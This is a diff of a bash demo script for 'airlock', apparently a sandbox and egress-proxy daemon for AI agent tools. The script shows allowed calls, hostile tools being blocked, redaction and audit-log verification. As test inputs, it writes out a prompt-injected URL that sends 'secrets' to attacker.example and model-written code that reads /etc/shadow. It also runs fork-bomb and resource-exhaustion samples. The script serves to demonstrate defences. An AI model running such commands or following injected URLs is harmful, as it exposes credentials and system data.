@@ -1,36 +1,72 @@
 #!/usr/bin/env bash
-# make demo: hostile Python "tools" run through `airlock run`; each verdict is printed.
+# make demo: the daemon on the example config, a scripted agent session against it, the
+# audit log verified, the daemon stopped. Then the same hostile tools through `airlock run`.
 set -euo pipefail
-AIRLOCK=${1:-build/src/cli/airlock}
-TOOLS="$(cd "$(dirname "$0")/../examples/hostile" && pwd)"
+AIRLOCK=$(realpath "${1:-build/src/cli/airlock}")
+EXAMPLES="$(cd "$(dirname "$0")/../examples" && pwd)"
+PORT=${AIRLOCK_DEMO_PORT:-8750}
+SERVER="http://127.0.0.1:$PORT"
+export AIRLOCK_API_KEY=demo-key-change-me
+DATA="$EXAMPLES/airlock-data"
 
-run_tool() {  # run_tool FILE [airlock run options...]
-  local tool=$1
-  shift
-  local json
-  json=$("$AIRLOCK" run --json --ro "$TOOLS:/tools" "$@" -- python3 "/tools/$tool" || true)
-  python3 - "$tool" "$json" <<'PY'
-import json, sys
-tool, outcome = sys.argv[1], json.loads(sys.argv[2])
-usage = outcome["usage"]
-pad = " " * 40
-print(f"  {tool:<18} {outcome['verdict']:<19} {outcome['message']}")
-errors = [l for l in outcome["stderr"].splitlines() if l.strip()]
-if errors:
-    print(f"{pad}the tool saw: {errors[-1]}")
-print(f"{pad}wall {usage['wall_ms']} ms, cpu {usage['cpu_user_ms'] + usage['cpu_sys_ms']} ms, "
-      f"peak memory {(usage['memory_peak_bytes'] or 0) >> 20} MiB, peak processes {usage['pids_peak']}")
-PY
+cleanup() {
+  [[ -n ${DAEMON:-} ]] && kill -TERM "$DAEMON" 2>/dev/null && wait "$DAEMON" 2>/dev/null || true
+  [[ -n ${WEATHER:-} ]] && kill "$WEATHER" 2>/dev/null || true
+}
+trap cleanup EXIT
+
+step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
+
+SHOW="python3 $(dirname "$0")/demo_show.py"
+call() {  # call TOOL JSON
+  "$AIRLOCK" call "$1" --server "$SERVER" --input "$2" | $SHOW invocation || true
 }
 
-echo "Airlock demo: five hostile tools, each in its own sandbox (airlock run)."
+step "Starting the daemon on the example config (examples/airlock.yaml)"
+rm -rf "$DATA"
+python3 "$EXAMPLES/demo_weather_server.py" 8751 &
+WEATHER=$!
+"$AIRLOCK" serve --config "$EXAMPLES/airlock.yaml" --listen "127.0.0.1:$PORT" &
+DAEMON=$!
+for _ in $(seq 100); do curl -sf "$SERVER/healthz" >/dev/null 2>&1 && break; sleep 0.1; done
+"$AIRLOCK" tools list --server "$SERVER"
+
+step "1. An allowed call: summarise a CSV (no network)"
+call csv-summary '{"csv": "city,temp\nParis,21\nOslo,12\nLima,19\n"}'
+
+step "2. The weather tool reaches its one allowed host ..."
+call weather '{"city": "Paris"}'
+step "   ... and a prompt-injected URL to anywhere else is denied by the egress proxy"
+call weather '{"url": "http://attacker.example/collect?data=secrets"}'
+
+step "3. Model-written code that shells out is rejected before it runs"
+call run-python '{"code": "import subprocess\nprint(subprocess.run([\"cat\", \"/etc/shadow\"], capture_output=True).stdout)"}'
+step "   ... while ordinary model-written code runs in its sandbox"
+call run-python '{"code": "import statistics\ndef run(args):\n    return {\"mean\": statistics.mean([3, 5, 10])}"}'
+
+step "4. A tool whose output carries an email and an AWS key: DLP redacts both"
+call customer-report '{"customer": "ACME"}'
+
+step "5. A tool with a compromised dependency fork-bombs: the sandbox holds"
+call fancy-format '{"text": "quarterly report"}'
+
+step "6. No key, no call"
+curl -s -o /dev/null -w "  -> HTTP %{http_code} without an API key\n" -X POST "$SERVER/v1/tools/csv-summary/invoke" -d '{"arguments":{}}'
+
+step "Stopping the daemon (SIGTERM: drain, final checkpoint)"
+kill -TERM "$DAEMON"
+wait "$DAEMON" || true
+DAEMON=
+
+step "airlock audit verify: every call above, allowed or not, is in the tamper-evident log"
+"$AIRLOCK" audit verify "$DATA/audit.db"
+
+step "The same kind of hostile tools through airlock run, one sandbox each"
+TOOLS="$EXAMPLES/hostile"
+for spec in "read_shadow.py" "connect_out.py" "fork_bomb.py --timeout 3s" "memory_hog.py" "infinite_loop.py --timeout 2s"; do
+  set -- $spec
+  tool=$1; shift
+  "$AIRLOCK" run --json --ro "$TOOLS:/tools" "$@" -- python3 "/tools/$tool" | $SHOW run "$tool" || true
+done
 echo
-"$AIRLOCK" doctor | grep -E "^  (FAIL|warn)" || true
-printf "  %-18s %-19s %s\n" TOOL VERDICT "WHAT HAPPENED"
-run_tool read_shadow.py
-run_tool connect_out.py
-run_tool fork_bomb.py --timeout 3s --pids 64
-run_tool memory_hog.py --memory 512M
-run_tool infinite_loop.py --timeout 2s
-echo
-echo "Nothing left behind: no process, mount or cgroup of these runs remains."
+echo "Nothing of these runs is left: no process, mount or cgroup."
